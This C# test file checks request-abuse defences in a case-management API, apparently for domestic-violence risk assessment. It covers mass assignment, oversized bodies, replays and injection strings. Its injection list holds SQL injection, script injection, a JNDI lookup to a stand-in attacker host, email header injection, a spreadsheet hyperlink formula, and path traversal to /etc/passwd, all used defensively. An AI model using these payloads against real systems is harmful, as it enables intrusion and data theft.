using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;

namespace Safeguard.Security.Tests;

/// <summary>
/// Bodies that try to do more than they may: server-owned fields (mass assignment), oversized and malformed
/// bodies, injection strings in every text field of a case, and replays of a change. Each is answered as it
/// should be, and the database holds exactly what a well-behaved client would have caused.
/// </summary>
public sealed class RequestAbuseTests(PlatformFixture platform)
{
    private readonly string _centre = Names.CentreCode();

    private HttpClient Csr => platform.As(Personas.Supervisor(_centre));

    private object Case(string name = "Test Victim", string relation = "husband") => new
    {
        centreCode = _centre, reportedBy = "police", learnedAt = DateTimeOffset.UtcNow.AddMinutes(-5),
        victim = new { fullName = name, category = "adult" },
        household = new[] { new { fullName = name, relation, isChild = false } },
        perpetrator = new { fullName = name, relationToVictim = relation },
    };

    private async Task<long> CasesAsync() =>
        (long)(await platform.QueryAsync("risk-assessment-db", "SELECT count(*) FROM cases WHERE centre_code = @c", ("c", _centre)))[0][0];

    [Fact]
    public async Task Server_owned_fields_in_a_body_are_ignored()
    {
        var planted = Guid.NewGuid();
        var learnedAt = DateTimeOffset.UtcNow.AddMinutes(-30);
        var response = await Csr.PostAsJsonAsync(RiskAssessmentApi.Cases, new
        {
            id = planted, reference = "HACKED-1", state = "closed", riskLevel = "standard", version = 1, openedAt = "2020-01-01T00:00:00Z",
            assessmentDueAt = learnedAt.AddDays(30), centreCode = _centre, reportedBy = "police", learnedAt,
            victim = new { fullName = "Test Victim", category = "adult" },
        });
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var body = await response.Content.ReadFromJsonAsync<JsonElement>();

        Assert.NotEqual(planted, body.GetProperty("id").GetGuid());
        Assert.StartsWith($"{_centre}-", body.GetProperty("reference").GetString());
        Assert.Equal("awaiting-assessment", body.GetProperty("state").GetString());
        // Art. 5: the server computes the deadline from when the centre learned of the violence.
        Assert.Equal(learnedAt.AddHours(12), body.GetProperty("assessmentDueAt").GetDateTimeOffset(), TimeSpan.FromSeconds(1));
        Assert.Empty(await platform.QueryAsync("risk-assessment-db", "SELECT 1 FROM cases WHERE id = @id", ("id", planted)));
    }

    [Fact]
    public async Task Oversized_and_malformed_bodies_are_refused_as_problems_and_store_nothing()
    {
        var huge = new string('x', 2 * 1024 * 1024);
        // Expect: 100-continue, as a careful client sends a large body: the 413 comes before the body is sent.
        // Without it, the server's refusal and close can race the client's upload into a broken pipe.
        using var declaredRequest = new HttpRequestMessage(HttpMethod.Post, RiskAssessmentApi.Cases)
        {
            Content = new StringContent($$"""{"centreCode":"{{_centre}}","note":"{{huge}}"}""", Encoding.UTF8, "application/json"),
        };
        declaredRequest.Headers.ExpectContinue = true;
        var declared = await Csr.SendAsync(declaredRequest);
        await declared.AssertProblemAsync(HttpStatusCode.RequestEntityTooLarge);

        // No Content-Length: Kestrel stops the stream at the limit.
        var chunked = new StreamContent(new MemoryStream(Encoding.UTF8.GetBytes($$"""{"centreCode":"{{_centre}}","note":"{{huge}}"}""")));
        chunked.Headers.ContentType = new("application/json");
        using var request = new HttpRequestMessage(HttpMethod.Post, RiskAssessmentApi.Cases) { Content = chunked };
        request.Headers.TransferEncodingChunked = true;
        try
        {
            var streamed = await Csr.SendAsync(request);
            Assert.Contains(streamed.StatusCode, new[] { HttpStatusCode.RequestEntityTooLarge, HttpStatusCode.BadRequest });
        }
        catch (HttpRequestException ex) when (ex.InnerException is IOException)
        {
            // The server stopped reading at the limit and closed the connection while the upload went on: also a
            // refusal. What must hold either way is checked below: nothing was stored.
        }

        await (await Csr.PostAsync(RiskAssessmentApi.Cases, new StringContent("{\"centreCode\": \"" + _centre, Encoding.UTF8, "application/json")))
            .AssertProblemAsync(HttpStatusCode.BadRequest);
        await (await Csr.PostAsync(RiskAssessmentApi.Cases, new StringContent(new string('[', 5000) + new string(']', 5000), Encoding.UTF8, "application/json")))
            .AssertProblemAsync(HttpStatusCode.BadRequest);
        await (await Csr.PostAsJsonAsync(RiskAssessmentApi.Cases, new { centreCode = _centre, reportedBy = "police", learnedAt = "yesterday" }))
            .AssertProblemAsync(HttpStatusCode.BadRequest, "learnedAt");
        Assert.Equal(0, await CasesAsync());
    }

    /// <summary>
    /// Issue 24 §5: the limit holds at every service too, for a caller who reaches a service's port around the
    /// gateway with a valid token: a body over 1 MiB is refused with a 413 problem before the endpoint reads it.
    /// </summary>
    [Theory]
    [InlineData("risk-assessment", "/api/risk-assessment/cases")]
    [InlineData("safety-plan", "/api/safety-plans/teams")]
    [InlineData("reintegration", "/api/reintegration/cases")]
    [InlineData("training-registry", "/api/training/participants")]
    [InlineData("notification", "/api/notifications/institutions")]
    [InlineData("identity", "/api/identity/institutions")]
    [InlineData("workspace", "/workspace/sign-out")]
    public async Task A_service_reached_around_the_gateway_refuses_an_oversized_body_as_the_gateway_does(string service, string path)
    {
        using var direct = platform.Direct(service, Personas.Supervisor(_centre));
        using var request = new HttpRequestMessage(HttpMethod.Post, path)
        {
            Content = new StringContent($$"""{"centreCode":"{{_centre}}","note":"{{new string('x', 2 * 1024 * 1024)}}"}""", Encoding.UTF8, "application/json"),
        };
        request.Headers.ExpectContinue = true;

        var refused = await direct.SendAsync(request);

        await refused.AssertProblemAsync(HttpStatusCode.RequestEntityTooLarge);
    }

    public static TheoryData<string> Injections =>
    [
        "'; DROP TABLE cases; --",
        "\" OR \"1\"=\"1",
        "<script>alert('x')</script>",
        "{{7*7}} ${7*7} #{7*7}",
        "${jndi:ldap://attacker.test/a}",
        "Ana\r\nBcc: attacker@evil.test",
        "=HYPERLINK(\"http://evil.test\")",
        "../../../../etc/passwd",
        "Ana\u202Egnp.exe\u0000",
        "Ана Петровска Žaneta Çela",
    ];

    [Theory]
    [MemberData(nameof(Injections))]
    public async Task Injection_strings_in_every_text_field_are_kept_as_plain_text(string text)
    {
        var response = await Csr.PostAsJsonAsync(RiskAssessmentApi.Cases, Case(text, text));
        if (response.StatusCode == HttpStatusCode.BadRequest)
        {
            // Refused as a whole, naming a field: acceptable, as long as nothing was stored.
            await response.AssertProblemAsync(HttpStatusCode.BadRequest);
            Assert.Equal(0, await CasesAsync());
            return;
        }
        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var id = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetGuid();
        var read = (await Csr.ReadCaseAsync(id)).Body;
        Assert.Equal(text.Trim(), read.GetProperty("victim").GetProperty("fullName").GetString());
        Assert.Equal(text.Trim(), read.GetProperty("perpetrator").GetProperty("fullName").GetString());
        Assert.Equal(text.Trim(), read.GetProperty("household")[0].GetProperty("relation").GetString());
        // The tables are all still there and hold one case.
        Assert.Equal(1, await CasesAsync());
    }

    [Fact]
    public async Task A_replayed_change_is_refused_and_applied_once()
    {
        var c = await Csr.OpenCaseAsync(_centre);
        var body = RiskAssessmentApi.Assessment((await Answers.AllClearAsync(Csr)).Build());
        Assert.Equal(HttpStatusCode.Created, (await Csr.SubmitAssessmentAsync(c, body, c.ETag)).StatusCode);
        await (await Csr.SubmitAssessmentAsync(c, body, c.ETag)).AssertProblemAsync(HttpStatusCode.PreconditionFailed, "If-Match");

        var current = await Csr.ReadCaseAsync(c.Id);
        var close = new { reason = "Moved abroad with her children." };
        Assert.Equal(HttpStatusCode.OK, (await Csr.PostIfMatchAsync($"{RiskAssessmentApi.Cases}/{c.Id}/closure", close, current.ETag)).StatusCode);
        await (await Csr.PostIfMatchAsync($"{RiskAssessmentApi.Cases}/{c.Id}/closure", close, current.ETag)).AssertProblemAsync(HttpStatusCode.PreconditionFailed, "If-Match");

        Assert.Single(await Csr.ListAsync($"{RiskAssessmentApi.Cases}/{c.Id}/assessments"));
    }
}
